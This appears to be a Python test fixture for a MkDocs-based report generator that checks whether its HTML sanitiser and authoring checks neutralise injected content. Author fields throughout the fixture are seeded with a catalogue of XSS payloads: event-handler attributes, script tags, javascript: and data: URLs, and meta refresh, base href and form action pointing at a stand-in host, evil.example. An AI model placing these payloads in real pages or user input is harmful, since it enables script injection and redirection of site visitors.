"""A project with script and third-party payloads in every field an author writes (tests/test_injection.py).

Each payload, if it ran, would set ``window.__pwned``, open a dialog, or make the browser ask another host
(``evil.example``) for something.
"""

from __future__ import annotations

import textwrap
from pathlib import Path

from conftest import MINI_BIB, MINI_VIGNETTE, write_mkdocs_site

JS = "window.__pwned=1;alert(1)"
EVIL = "https://evil.example"
BROKEN_IMAGE = "data:image/png;base64,AAAA"  # fails to load: onerror would run (a missing file would stop the PDF)

# Blocks of Markdown, each a payload class of issue #14, with the code `report check` gives it.
BLOCKS = {
    "attribute list on a paragraph": (f'A paragraph to hover.\n{{: onmouseover="{JS}" }}', "html.unsafe"),
    "attribute list on a span": (f'*click me*{{ onclick="{JS}" }} in a sentence.', "html.unsafe"),
    "autofocus and onfocus": (f'Focus lands here.\n{{: autofocus onfocus="{JS}" tabindex="0" }}', "html.unsafe"),
    "script after an escaped backtick": (f"An escaped \\` backtick <script>{JS}</script> and `code`.",
                                         "html.unsafe"),
    "script after a 4-space fence line": (f"    ```\n<script>{JS}</script>\n    ```", "html.unsafe"),
    "entity-encoded javascript: link": ("[a link](jav&#x61;script:window.__pwned=1)", "html.unsafe"),
    "javascript: in raw HTML": (f'<a href="javascript:{JS}">a raw link</a>', "html.unsafe"),
    "iframe with a data: URL": ('<iframe src="data:text/html,<script>parent.__pwned=1;alert(1)</script>"></iframe>',
                                "html.unsafe"),
    "object with a data: URL": ('<object data="data:text/html,<script>alert(1)</script>"></object>', "html.unsafe"),
    "embed with a data: URL": ('<embed src="data:text/html,<script>alert(1)</script>">', "html.unsafe"),
    "base href": (f'<base href="{EVIL}/">', "html.unsafe"),
    "meta refresh": (f'<meta http-equiv="refresh" content="0;url={EVIL}/">', "html.unsafe"),
    "form action": (f'<form action="{EVIL}/"><input name="q" value="x"></form>', "html.unsafe"),
    "style @import": (f"<style>@import url({EVIL}/import.css);</style>", "html.unsafe"),
    "stylesheet from another host": (f'<link rel="stylesheet" href="{EVIL}/sheet.css">', "html.remote-resource"),
    "image from another host": (f'<img src="{EVIL}/raw.png" alt="x">', "html.remote-resource"),
    "Markdown image from another host": (f"![x]({EVIL}/markdown.png)", "html.remote-resource"),
    "image onerror": (f'<img src="{BROKEN_IMAGE}" onerror="{JS}" alt="x">', "html.unsafe"),
    "svg onload": (f'<svg onload="{JS}"></svg>', "html.unsafe"),
}
# HTML shown as code stays text: never reported, never live.
SHOWN_AS_CODE = f"Shown as code: `<script>{JS}</script>` and\n\n```html\n<img src=x onerror=\"{JS}\">\n```"
BODY = "\n\n".join([*(markdown for markdown, _ in BLOCKS.values()), SHOWN_AS_CODE])
# What fits on one line of a front-matter field, a BibTeX field or a glossary entry.
INLINE = (f'<img src="{BROKEN_IMAGE}" onerror="{JS}"> <script>{JS}</script> [a link](javascript:{JS}) '
          f"<iframe src=\"data:text/html,%3Cscript%3Ealert(1)%3C/script%3E\"></iframe> <img src=\"{EVIL}/inline.png\">")
# BibTeX reads braces and backslashes itself; its fields are text.
BIB_INLINE = f'<img src=x onerror="{JS}"> <script>{JS}</script> [a link](javascript:{JS}) <b>bold</b>'


# Put on PYTHONPATH as sitecustomize.py, for `report build` and the MkDocs it starts: the authors' check off,
# to show what the sanitiser alone makes of the payloads.
CHECK_OFF = """\
import generator.knowledge.citations as citations
import generator.compile.htmlcheck as htmlcheck
import generator.compile.authorhtml as authorhtml

htmlcheck.check_sources = lambda *args, **kwargs: []
authorhtml.HtmlCheckProcessor.run = lambda self, root: None
citations._check_url = lambda *args, **kwargs: None
"""


def write_injection_site(root: Path, *, checked_fields: bool = True) -> Path:
    """The fixture project. ``checked_fields``: also payloads in fields the loader validates before any page
    is rendered (a vignette's number and area, in a vignette of their own; a BibTeX url) — they stop the
    build by themselves, so a build that shows what the sanitiser does with the rest leaves them out."""
    lesson = f"- **A lesson with a payload:** {INLINE} {{#lesson:payload}}"
    chapter = textwrap.dedent(f"""\
        ---
        description: '{INLINE}'
        illustrated_by:
          lesson:payload:
            - target: vignette:road-safety
              reason: '{INLINE}'
        ---
        # Home

        See [][vignette:road-safety], [][lesson:payload] and [@huxham2005; @payload2020]. The XSS team met.

        {lesson}

        """) + BODY + "\n"
    glossary = textwrap.dedent(f"""\
        ---
        terms:
          XSS: '{INLINE}'
        ---
        # Glossary

        The terms.
        """)
    vignette = MINI_VIGNETTE.replace("title: Road Safety", f"title: 'Road {INLINE}'").replace(
        "  - council", f"  - 'council {INLINE}'") + "\n" + BODY + "\n"
    enumerated = MINI_VIGNETTE.replace("number: I", f"number: '{INLINE}'").replace("area: B", f"area: '{INLINE}'")
    url = f"javascript:{JS}" if checked_fields else "https://example.org/report"
    bib = MINI_BIB + textwrap.dedent(f"""\

        @techreport{{payload2020,
          author = {{{{{BIB_INLINE}}}}},
          title = {{{BIB_INLINE}}},
          institution = {{{BIB_INLINE}}},
          year = {{2020}},
          url = {{{url}}}
        }}
        """)
    write_mkdocs_site(root, {"content/index.md": chapter, "content/glossary.md": glossary,
                             "vignettes/road-safety.md": vignette, "references/references.bib": bib,
                             "vignettes/enumerated.md": enumerated if checked_fields else None})
    config = (root / "mkdocs.yml").read_text(encoding="utf-8")
    config = config.replace("site_name: Fixture", f"site_name: '<img src=x onerror=\"{JS}\"></title><script>{JS}</script>'")
    config += textwrap.dedent(f"""\
        copyright: '<a href="javascript:{JS}">Copyright</a> <script>{JS}</script> <b onclick="{JS}">us</b>'
        nav:
          - '<img src=x onerror="{JS}">': index.md
          - 'Section <script>{JS}</script>':
              - vignettes/road-safety.md
          - glossary.md
          - references.md
        """)
    if not checked_fields:  # MkDocs would warn of the javascript: link, as the report's own check does
        config = config.replace("unrecognized_links: warn", "unrecognized_links: info")
    (root / "mkdocs.yml").write_text(config, encoding="utf-8")
    return root
